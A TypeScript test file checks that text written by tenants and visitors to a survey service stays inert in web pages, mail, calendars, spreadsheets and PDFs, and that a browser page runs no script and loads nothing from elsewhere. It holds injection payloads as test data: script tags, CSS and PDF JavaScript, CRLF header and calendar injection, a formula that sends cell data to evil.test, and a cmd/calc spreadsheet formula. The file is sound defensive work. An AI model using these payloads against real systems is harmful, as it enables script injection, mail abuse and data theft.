import assert from 'node:assert/strict'
import { before, describe, test } from 'node:test'
import { launchBrowser, noBrowser } from './support/browser.ts'
import type { Mailbox } from './support/mailbox.ts'
import { startMailbox } from './support/mailbox.ts'
import type { Outputs } from './support/outside.ts'
import { everything } from './support/outside.ts'
import type { TestService } from './support/service.ts'
import { makeOrganization, startService } from './support/service.ts'

// Every text that tenants and visitors write and that an outsider's page, mail, header, calendar,
// table or PDF shows: stored once as plain words and once as each of these. The outputs must be
// made of the same parts, as read by a standard parser.

const marker = 'mrk'
const plain = `${marker} plain words`
const hostile = {
  'elements, attributes and references': `${marker}"'><img src=x onerror=alert(1)></title></style></script><svg/onload=alert(1)>&quot;&gt;&lt;b&gt;&#x3c;i&#x3e;" onfocus="alert(1)" autofocus x='`,
  'a style, a policy or a string of a PDF': `${marker};}body{background:url(https://evil.test)} ; script-src *, default-src *) /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (`,
  'lines of headers and calendars': `${marker}\r\nBcc: evil@evil.test\r\nX-Evil: 1\r\n\r\n<b>body</b>\nEND:VEVENT\nBEGIN:VEVENT\rATTENDEE:mailto:evil@evil.test`,
  'a formula': `=HYPERLINK("https://evil.test/?"&A1;"${marker}")`,
  'another formula, and signs without a shape': `\t@SUM(1+1)*cmd|' /C calc'!A0 ${marker}\u202e\u2028\u2029\ufeff\u00a0</p>`,
}

let outside: { service: TestService; mailbox: Mailbox }

before(async () => {
  const mailbox = await startMailbox()
  outside = { mailbox, service: await startService({ smtpUrl: mailbox.url }, undefined, true) }
})

describe('what others write stays text', () => {
  let expected: Outputs

  before(async () => {
    expected = await everything(outside, plain)
    for (const [name, { words }] of Object.entries(expected))
      assert.ok(words.includes(marker), name)
  })

  for (const [name, text] of Object.entries(hostile)) {
    test(name, async () => {
      const found = await everything(outside, text)
      assert.deepEqual(Object.keys(found), Object.keys(expected))
      for (const [where, { shape, words, policy }] of Object.entries(found)) {
        assert.deepEqual(shape, expected[where]!.shape, where)
        assert.deepEqual(policy, expected[where]!.policy, where)
        assert.ok(words.includes(marker), where)
      }
    })
  }
})

describe('in a browser', { skip: noBrowser() }, () => {
  test('nothing runs, loads from elsewhere or leads away', async () => {
    const { service } = outside
    const browser = await launchBrowser()
    const org = await makeOrganization(service)
    const { token } = org.users.admin
    const text = hostile['elements, attributes and references']
    const fields = [{ id: 'a', type: 'short-text', label: text, description: text }]
    const body = {
      name: text,
      description: text,
      form_structure: [{ id: 'p', title: text, fields }],
      status: 'published',
      background_url: `https://pictures.test/a'b(c)d;e,f?g='h(#i')`,
    }
    const made = await service.call('POST', '/api/surveys/', { token, body })
    const path = `/api/surveys/${made.body.survey_id}/link/`
    const link = await service.call('POST', path, { token, body: {} })
    const page = await (await browser.newContext()).newPage()
    const requested: string[] = []
    page.on('dialog', () => assert.fail('a script ran'))
    await page.route(/^https:/, (route) => {
      requested.push(route.request().url())
      return route.fulfill({ status: 404 })
    })
    await page.goto(service.url + new URL(link.body.url).pathname)
    assert.equal(await page.innerText('h1'), text)
    const background = await page.evaluate('getComputedStyle(document.body).backgroundImage')
    assert.match(String(background), /^url\("https:\/\/pictures\.test\/a/)
    // the address as it was meant, and nothing else
    assert.deepEqual(
      requested.map((url) => new URL(url).hostname),
      ['pictures.test'],
    )
    assert.equal(new URL(page.url()).origin, service.url)
  })
})
